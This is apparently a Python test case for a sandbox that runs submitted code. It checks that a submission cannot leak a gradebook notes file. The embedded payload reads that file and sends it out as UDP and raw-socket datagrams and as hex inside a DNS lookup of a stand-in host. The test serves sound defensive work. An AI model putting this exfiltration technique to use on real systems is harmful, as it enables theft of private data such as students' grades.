"""Sends datagrams and asks for names in which what it read is hidden. The listener must not hear one byte."""

from pathlib import Path

from kit import Release, Scene, type_in, write

family = "theft"
safe_on_stock = True

CODE = """
import socket
data = open("@COURSE@/gradebook/notes.txt", "rb").read() if __import__("os").path.exists("@COURSE@/gradebook/notes.txt") else b"nothing"
for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)), (socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0))):
    try:
        socket.socket(family, kind).sendto(data, address)
    except OSError as error:
        print(error)
try:
    socket.getaddrinfo(data.hex()[:40] + ".example.invalid", 80)
except OSError as error:
    print(error)
"""


def hand_in(release: Release, folder: Path, scene: Scene) -> None:
    type_in(release, scene.fill(CODE))
    write(release, folder)
